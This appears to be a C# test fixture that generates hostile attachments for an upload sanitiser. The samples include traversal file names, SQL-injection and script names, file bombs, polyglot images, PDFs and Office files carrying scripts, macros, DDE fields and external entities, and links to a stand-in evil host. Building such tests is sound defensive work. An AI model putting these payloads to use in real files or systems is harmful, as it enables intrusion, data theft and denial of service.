using System.Text;
using SkiaSharp;
using static Biandangou.Tests.Common.Attachments.SampleFiles;

namespace Biandangou.Tests.Common.Attachments;

/// <param name="MustRefuse">False where keeping a harmless copy is right too.</param>
internal sealed record HostileFile(string Kind, string Name, byte[] Bytes, bool MustRefuse);

/// <summary>What should never lie in the store as it came.</summary>
internal static class HostileFiles
{
    public static IReadOnlyList<HostileFile> All =>
        [.. Names(), .. Types(), .. Bombs(), .. Images(), .. Pdfs(), .. Packages(), .. HiddenInPdf.All, .. HiddenInOffice.All, .. Sizes()];

    private static IEnumerable<HostileFile> Names()
    {
        string[] names =
        [
            "../../../../etc/passwd.jpg", "..\\..\\windows\\system32\\evil.jpg", "/absolute/photo.jpg", "C:\\temp\\photo.jpg", "CON.jpg",
            "nul", "LPT1.txt.jpg",
            "shell.php.jpg", "photo.jpg.exe", "photo.exe", "照片\u202Egpj.exe", "零\u200B宽\uFEFF.jpg", "tab\tname.jpg", "a<b>c:d|e?f*g.jpg",
            "....", ".htaccess", "   ", "",
            new string('长', 400) + ".jpg", string.Concat(Enumerable.Repeat("👨‍👩‍👧", 80)) + ".jpg",
            "%2e%2e%2fescape.jpg", "photo.jpg\0.exe",
            "web.config", "a'; DROP TABLE Attachments;--.jpg", "<script>alert(1)</script>.jpg",
        ];
        return names.Select(n => new HostileFile("name", n, Jpeg(), MustRefuse: false));
    }

    private static IEnumerable<HostileFile> Types()
    {
        (string Name, byte[] Head)[] types =
        [
            ("exe.jpg", [(byte)'M', (byte)'Z', 0x90, 0]), ("elf.png", [0x7F, (byte)'E', (byte)'L', (byte)'F']),
            ("page.jpg", Utf8("<html><script>alert(1)</script>")),
            ("vector.png", Utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")), ("code.pdf", Utf8("alert(1);")),
            ("shell.jpg", Utf8("<?php system($_GET[0]);")),
            ("run.pdf", Utf8("@echo off\r\n")), ("link.docx", [0x4C, 0, 0, 0, 1, 0x14, 2, 0]),
            ("old.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]), ("text.docx", Utf8("{\\rtf1 \\object}")),
            ("film.jpg", [0, 0, 0, 0x18, .. "ftypmp42"u8]), ("apple.jpg", [0, 0, 0, 0x18, .. "ftypheic"u8]),
            ("new.jpg", [0, 0, 0, 0x18, .. "ftypavif"u8]), ("raw.jpg", [0x49, 0x49, 0x2A, 0]),
            ("packed.docx", [.. "Rar!"u8, 0x1A, 7]), ("seven.docx", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C]), ("gz.xlsx", [0x1F, 0x8B, 8]),
            ("flash.png", Utf8("FWS\x0A")), ("sound.webp", [.. "RIFF"u8, 0, 0, 0, 0, .. "WAVE"u8]),
            ("java.jpg", [0xCA, 0xFE, 0xBA, 0xBE]), ("script.pdf", Utf8("#!/bin/sh\n")), ("icon.png", [0, 0, 1, 0, 1, 0]),
            ("plain.jpg", Utf8("只是文字")), ("zeros.jpg", new byte[2000]),
        ];
        foreach (var (name, head) in types)
            yield return new("type", name, [.. head, .. Utf8(Marker)], MustRefuse: true);
        yield return new("type", "empty.jpg", [], MustRefuse: true);
    }

    private static IEnumerable<HostileFile> Bombs()
    {
        var jpeg = Jpeg();
        var frame = jpeg.AsSpan().IndexOf<byte>([0xFF, 0xC0]);
        for (var at = 5; at < 9; at++)
            jpeg[frame + at] = 0xFD;
        yield return new("bomb", "huge.jpg", jpeg, true);
        yield return new("bomb", "huge.png", PngClaiming(60_000, 60_000), true);
        yield return new("bomb", "wide.png", PngClaiming(2_000_000_000, 1), true);
        yield return new("bomb", "small.png", PngClaiming(7000, 7000), true);
        yield return new("bomb", "huge.gif", Gif(65_535, 65_535), true);
        yield return new("bomb", "huge.bmp", Bmp(40_000, 40_000), true);
        yield return new("bomb", "negative.bmp", Bmp(-5, 40_000), true);
        yield return new("bomb", "zeros.docx", Docx(("word/media/zeros.bin", new byte[40_000_000])), true);
        yield return new("bomb", "many.xlsx", Xlsx([.. Enumerable.Range(0, 2500).Select(i => ($"xl/media/{i}.bin", new byte[1]))]), true);
        yield return new("bomb", "laughs.docx",
            Docx(("word/styles.xml", Utf8("<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>"))), true);
        yield return new("bomb", "nested.docx", Docx(("word/embeddings/a.docx", Docx(("word/embeddings/b.docx", Docx())))), true);
        yield return new("bomb", "packed.pdf", PdfPacked(new string(' ', 70_000_000)), true);
    }

    private static IEnumerable<HostileFile> Images()
    {
        byte[] tail = [.. Zip(("evil.exe", Utf8("MZ" + Marker))), .. Utf8(Marker)];
        var png = Picture(SKEncodedImageFormat.Png);
        yield return new("place", "gps.jpg", JpegWithPlace(), false);
        yield return new("place", "turned.jpg", JpegWithPlace(6, Marker), false);
        yield return new("place", "xmp.jpg", WithSegment(
            Jpeg(), 0xE1, Utf8($"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>{Marker}</x:xmpmeta>")), false);
        yield return new("place", "exif.png", WithChunk(png, "eXIf", [.. "II*\0"u8, 8, 0, 0, 0, 0, 0, .. Utf8(Marker)]), false);
        yield return new("polyglot", "tail.jpg", [.. Jpeg(), .. tail], false);
        yield return new("polyglot", "comment.jpg", WithSegment(Jpeg(), 0xFE, Utf8($"<script>{Marker}</script>")), false);
        yield return new("polyglot", "text.png", WithChunk(png, "tEXt", Utf8($"Comment\0<?php {Marker} ?>")), false);
        yield return new("polyglot", "tail.png", [.. png, .. tail], false);
        yield return new("polyglot", "tail.webp", [.. Picture(SKEncodedImageFormat.Webp), .. tail], false);
        yield return new("polyglot", "tail.gif", [.. Gif(), .. tail], false);
        yield return new("polyglot", "script.gif", Utf8($"GIF89a=1;alert('{Marker}');"), false);
        yield return new("polyglot", "script.bmp", Utf8($"BM=1;alert('{Marker}');"), true);
        yield return new("polyglot", "before.jpg", [.. Utf8(Marker), .. Jpeg()], true);
        yield return new("truncated", "half.jpg", Jpeg()[..^400], true);
        yield return new("truncated", "half.png", png[..(png.Length / 2)], true);
        yield return new("truncated", "half.webp", Picture(SKEncodedImageFormat.Webp)[..100], true);
        yield return new("truncated", "head.gif", Gif()[..13], true);
        yield return new("truncated", "head.jpg", [0xFF, 0xD8, 0xFF], true);
    }

    private static IEnumerable<HostileFile> Pdfs()
    {
        (string Name, string Objects)[] active =
        [
            ("script.pdf", "3 0 obj\n<< /S /JavaScript /JS (app.alert) >>\nendobj"),
            ("escaped.pdf", "3 0 obj\n<< /S /J#61vaScr#69pt >>\nendobj"),
            ("short.pdf", "3 0 obj\n<< /JS 4 0 R >>\nendobj"), ("shorter.pdf", "3 0 obj\n<< /J#53 <6161> >>\nendobj"),
            ("launch.pdf", "3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"),
            ("carried.pdf", "3 0 obj\n<< /Type /EmbeddedFile >>\nendobj"), ("media.pdf", "3 0 obj\n<< /Subtype /RichMedia >>\nendobj"),
            ("locked.pdf", "3 0 obj\n<< /Encrypt 4 0 R >>\nendobj"),
            ("form.pdf", "3 0 obj\n<< /XFA [(template) 4 0 R] >>\nendobj"),
            ("odd.pdf", "3 0 obj\n<< /Type /ObjStm >>\nstream\nnot deflated\nendstream\nendobj"),
            ("hidden.pdf", "3 0 obj\n<< /Type /Obj#53tm >>\nendobj"),
            ("opens-web.pdf", "3 0 obj\n<< /OpenAction << /S /URI /URI (http://evil.invalid/) >> >>\nendobj"),
            ("opens-later.pdf", "3 0 obj\n<< /OpenAction 4 0 R >>\nendobj\n4 0 obj\n<< /S /URI /URI (http://evil.invalid/) >>\nendobj"),
            ("turns.pdf", "3 0 obj\n<< /AA << /O 4 0 R >> >>\nendobj\n4 0 obj\n<< /S /URI /URI (http://evil.invalid/) >>\nendobj"),
            ("share.pdf", "3 0 obj\n<< /S /GoToR /F (\\\\\\\\evil.invalid\\\\share\\\\a.pdf) >>\nendobj"),
            ("unc.pdf", "3 0 obj\n<< /S /URI /URI (\\\\\\\\evil.invalid\\\\share) >>\nendobj"),
            ("file.pdf", "3 0 obj\n<< /S /URI /URI (file:///C:/cmd.exe) >>\nendobj"),
            ("octal.pdf", "3 0 obj\n<< /S /URI /URI (\\152avascript:alert) >>\nendobj"),
            ("hex.pdf", "3 0 obj\n<< /S /URI /URI <66696c653a2f2f2f63> >>\nendobj"),
            ("named.pdf", "3 0 obj\n<< /Open#41ction << /S /U#52I /U#52I (http://evil.invalid/) >> >>\nendobj"),
        ];
        foreach (var (name, objects) in active)
            yield return new("pdf", name, Pdf(objects), true);
        yield return new("pdf", "packed.pdf", PdfPacked("6 0 << /S /JavaScript /JS (app.alert) >>"), true);
        yield return new("pdf", "packed-opens.pdf", PdfPacked("6 0 << /OpenAction << /S /URI /URI (http://evil.invalid/) >> >>"), true);
        yield return new("pdf", "tail.pdf", [.. Pdf(), .. Zip(("evil.exe", Utf8(Marker)))], true);
        yield return new("pdf", "before.pdf", [.. Utf8(Marker), .. Pdf()], true);
        yield return new("truncated", "half.pdf", Pdf()[..80], true);
    }

    private static IEnumerable<HostileFile> Packages()
    {
        yield return new("package", "macro.docx", Docx(("word/vbaProject.bin", Utf8(Marker))), true);
        yield return new("package", "renamed.docx",
            Document("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "<document/>"), true);
        yield return new("package", "template.docx",
            Document("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
            "<document/>"), true);
        yield return new("package", "remote.docx", Docx(Link("attachedTemplate", "http://evil.invalid/x.dotm")), true);
        yield return new("package", "beacon.docx", Docx(Link("image", "http://evil.invalid/x.png")), true);
        foreach (var target in new[] { "javascript:alert(1)", "file:///C:/cmd.exe", "\\\\evil.invalid\\share", "//evil.invalid/share",
            "java&#10;script:a", "vbscript:a", "ms-msdt:/id" })
            yield return new("link", $"{target[..4]}.docx", Docx(Link("hyperlink", target)), true);
        yield return new("link", "field.docx", DocxSaying("<w:r><w:instrText>HYPERLINK \"file:///C:/cmd.exe\"</w:instrText></w:r>"), true);
        yield return new("link", "formula.xlsx",
            Xlsx(("xl/worksheets/sheet1.xml", Utf8("<c><f>HYPERLINK(\"file:///C:/cmd.exe\",\"a\")</f></c>"))), true);
        yield return new("link", "web.xlsx", Xlsx(("xl/worksheets/sheet1.xml", Utf8("<c><f>WEBSERVICE(\"http://evil.invalid\")</f></c>"))),
            true);
        yield return new("link", "button.pptx", Pptx(("ppt/slides/slide1.xml", Utf8("<a action=\"ppaction://program?cmd.exe\"/>"))), true);
        yield return new("link", "action.ofd", Ofd(("Doc_0/Annots.xml", Utf8("<Action URI=\"file:///c:/a.exe\"/>"))), true);
        yield return new("svg", "image.docx", Docx(
            ("word/media/image1.svg", Utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>"))), true);
        yield return new("svg", "renamed.docx",
            Docx(("word/media/image1.png", Utf8("<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>"))), true);
        yield return new("package", "ole.docx", Docx(("word/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0])), true);
        yield return new("package", "hidden-ole.docx", Docx(("word/media/image1.png", [0xD0, 0xCF, 0x11, 0xE0, 1])), true);
        yield return new("package", "program.docx", Docx(("word/media/image1.png", Utf8("MZ" + Marker))), true);
        yield return new("package", "named.docx", Docx(("word/run.exe", Utf8(Marker))), true);
        yield return new("package", "external.docx", Docx(("word/styles.xml", Utf8("<!DOCTYPE s SYSTEM \"file:///etc/passwd\"><s/>"))),
            true);
        yield return new("package", "broken.docx", DocxSaying("<unclosed>"), true);
        yield return new("package", "field.docx",
            DocxSaying("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"), true);
        yield return new("package", "chunk.docx", DocxSaying("<w:altChunk/>"), true);
        yield return new("package", "dde.xlsx",
            Xlsx(("xl/externalLinks/externalLink1.xml", Utf8("<externalLink><ddeLink/></externalLink>"))), true);
        yield return new("package", "macro4.xlsx", Xlsx(("xl/macrosheets/sheet1.xml", Utf8("<a/>"))), true);
        yield return new("package", "control.pptx", Pptx(("ppt/activeX/activeX1.xml", Utf8("<a/>"))), true);
        yield return new("package", "inner.docx", Docx(("word/embeddings/book.xlsx", Xlsx(("xl/vbaProject.bin", Utf8(Marker))))), true);
        yield return new("package", "climb.docx", Docx(("../../evil.txt", Utf8(Marker))), true);
        yield return new("package", "absolute.docx", Docx(("/etc/evil", Utf8(Marker))), true);
        yield return new("package", "twice.docx", Docx(("word/a.txt", Utf8("1")), ("word/A.txt", Utf8("2"))), true);
        yield return new("package", "plain.docx", Zip(("readme.txt", Utf8(Marker))), true);
        yield return new("package", "jar.docx", Zip(("META-INF/MANIFEST.MF", Utf8(Marker))), true);
        yield return new("package", "program.ofd", Ofd(("Doc_0/a.exe", Utf8(Marker))), true);
        yield return new("package", "entity.ofd", Ofd(("Doc_0/Annots.xml", Utf8("<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>"))), true);
        yield return new("package", "tail.docx", [.. Docx(), .. Utf8(Marker)], true);
        yield return new("package", "before.docx", [.. Utf8("MZ"), .. Docx()], true);
        yield return new("package", "between.docx", Between(Docx()), true);
        yield return new("package", "locked.docx", Locked(Docx()), true);
        yield return new("package", "renamed-inside.docx", Renamed(Docx()), true);
        yield return new("truncated", "half.docx", Docx()[..300], true);
    }

    private static IEnumerable<HostileFile> Sizes()
    {
        yield return new("oversize", "noise.jpg", [.. Jpeg(), .. new byte[20 * 1024 * 1024]], true);
        yield return new("oversize", "noise.pdf", [.. Pdf(), .. Enumerable.Repeat((byte)' ', 20 * 1024 * 1024)], true);
    }

    /// <summary>Bytes between the directory and its end.</summary>
    private static byte[] Between(byte[] zip) => [.. zip[..^22], .. Utf8(Marker), .. zip[^22..]];

    private static byte[] Locked(byte[] zip)
    {
        var directory = zip.AsSpan().IndexOf("PK\x01\x02"u8);
        zip[directory + 8] |= 1;
        return zip;
    }

    /// <summary>The directory and the file's own head disagree about a name.</summary>
    private static byte[] Renamed(byte[] zip)
    {
        var at = zip.AsSpan().IndexOf(Encoding.ASCII.GetBytes("word/document.xml"));
        zip[at] = (byte)'W';
        return zip;
    }
}
